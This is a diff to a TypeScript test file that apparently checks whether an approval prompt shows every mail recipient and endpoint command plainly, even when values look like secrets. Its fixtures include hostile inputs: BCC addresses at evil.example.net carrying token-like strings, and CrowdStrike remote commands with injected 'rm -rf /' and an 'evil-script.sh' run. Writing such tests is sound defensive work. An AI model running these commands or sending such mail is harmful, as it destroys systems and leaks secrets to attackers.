@@ -40,6 +40,7 @@ const connectors: Record<string, Dict> = {
     config: { apiProvider: "OpenAI", apiUrl: "https://api.openai.com/v1/chat/completions" },
     secrets: { apiKey: "x" },
   },
+  crowd: { type: ".crowdstrike", config: { url: "https://api.crowdstrike.com" }, secrets: { clientId: "i", clientSecret: "s" } },
   mail: { type: ".email", config: { service: "other", host: "smtp.example.com", port: 25, from: "k@example.com", hasAuth: false } },
 };
 
@@ -122,6 +123,26 @@ describe("whom a tool may write to", () => {
     expect(line).not.toContain('x "me@good.example"');
     expect(line).toContain('"U1EVIL"');
   });
+});
+
+const mailTo = (bcc: string) => ({ to: ["ops@example.com"], bcc: [bcc], subject: "s", message: "m" });
+const command = (text: string) => ({ subAction: "executeRTRCommand", subActionParams: { command: text, endpoint_ids: ["e1"] } });
+
+test.each<[string, Dict, string]>([
+  ["mail", mailTo("/x?key=spy@evil.example.net"), 'bcc "/x?key=spy@evil.example.net"'],
+  ["mail", mailTo('"x://y:z"<ceo@corp.com>'), "<ceo@corp.com>"],
+  ["mail", mailTo("xoxb-12345678901234@evil.example.net"), "xoxb-12345678901234@evil.example.net"],
+  ["mail", mailTo("token=abc, ceo@corp.com"), "token=abc, ceo@corp.com"],
+  ["crowd", command("ls;token=1;rm -rf /"), 'command "ls;token=1;rm -rf /"'],
+  ["crowd", command("ls;token=$(rm -rf /)"), "token=$(rm -rf /)"],
+  ["crowd", command("ls # -----BEGIN RSA PRIVATE KEY-----; rm -rf /"), "; rm -rf /"],
+  ["crowd", command("echo Basic /bin/evil-script.sh"), "/bin/evil-script.sh"],
+  ["mcp", tool({ to: "/x?key=spy@evil.example.net" }), "@evil.example.net"],
+  ["mcp", tool({ run: "ls;token=1;rm -rf /" }), ";rm -rf /"],
+  ["mcp", tool({ run: "ls;token=$(rm -rf /)" }), "$(rm -rf /)"],
+  ["mcp", tool({ run: "Basic /bin/evil-script.sh" }), "/bin/evil-script.sh"],
+])("nobody and no command is out of sight by looking like a secret: %s, %j", async (id, params, shown) => {
+  expect(await recipientsAsked("execute_connector", { id, params })).toContain(shown);
 });
 
 const message = '{"channel":"#evil","text":"hello"}';
